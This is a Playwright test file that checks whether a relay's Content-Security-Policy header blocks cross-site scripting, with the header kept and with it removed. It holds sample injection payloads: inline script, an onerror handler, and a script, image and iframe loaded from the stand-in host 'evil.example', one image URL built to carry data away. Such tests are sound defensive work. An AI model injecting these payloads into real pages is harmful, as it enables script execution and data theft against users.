/** Script that slipped into the page as it is shipped, in a real browser: with the header of the real relay, and without it. */
import type { Page, Route } from 'playwright-core';
import { threat } from '../threats/support/threat.ts';
import { setStage } from './support/stage.ts';

const stage = setStage();

const elsewhere = 'https://evil.example/';
const policy = 'content-security-policy';

/** What stands in the page beside its own elements, and would call `ran`. */
const slippedIn = {
  'a script in the page': '<script>ran()</script>',
  'a handler on an element': '<img src="/no-such-picture" onerror="ran()">',
  'a script from elsewhere': `<script src="${elsewhere}script.js"></script>`,
  'a picture that carries words away': `<img src="${elsewhere}three-hours-for-the-roof">`,
  'a frame from elsewhere': `<iframe src="${elsewhere}frame"></iframe>`,
} as const;

type Outcome = 'ran' | 'refused';
type Watched = Window & { outcome: Promise<Outcome>; ran: () => void };

/** Runs before anything of the page does, and outside of what the policy rules. */
function watch(): void {
  const watched = window as unknown as Watched;
  if (window !== window.top) return;
  watched.outcome = new Promise((resolve) => {
    watched.ran = () => resolve('ran');
    document.addEventListener('securitypolicyviolation', () => resolve('refused'));
  });
}

/** Serves the page that the relay serves, with the markup in it; `headers` are those of the relay, or fewer. */
const servedWith =
  (markup: string, headers: (given: Readonly<Record<string, string>>) => Record<string, string>) =>
  async (route: Route): Promise<void> => {
    const response = await route.fetch();
    const body = (await response.text()).replace('</body>', `${markup}</body>`);
    await route.fulfill({ response, headers: headers(response.headers()), body });
  };

/** Whatever gets there has carried something away. */
const evilServer =
  (page: Page) =>
  async (route: Route): Promise<void> => {
    await page.evaluate(() => (window as unknown as Watched).ran());
    await route.fulfill({ status: 200, contentType: 'text/javascript', body: '' });
  };

for (const [what, markup] of Object.entries(slippedIn)) {
  threat<(given: Readonly<Record<string, string>>) => Record<string, string>>(`Script through a text field: ${what}`, {
    attack: async (headers) => {
      const context = await stage.browser.newContext({ serviceWorkers: 'block' });
      const page = await context.newPage();
      await page.addInitScript(watch);
      await page.route(`${elsewhere}**`, evilServer(page));
      await page.route(`${stage.relay.url}/`, servedWith(markup, headers));
      await page.goto(stage.relay.url, { waitUntil: 'domcontentloaded' });
      const outcome = await page.evaluate(() => (window as unknown as Watched).outcome);
      await context.close();
      return outcome === 'ran';
    },
    defence: (given) => {
      if (given[policy] === undefined) throw new Error('the relay sends a policy');
      return { ...given };
    },
    takenOut: ({ [policy]: _, ...others }) => others,
  });
}
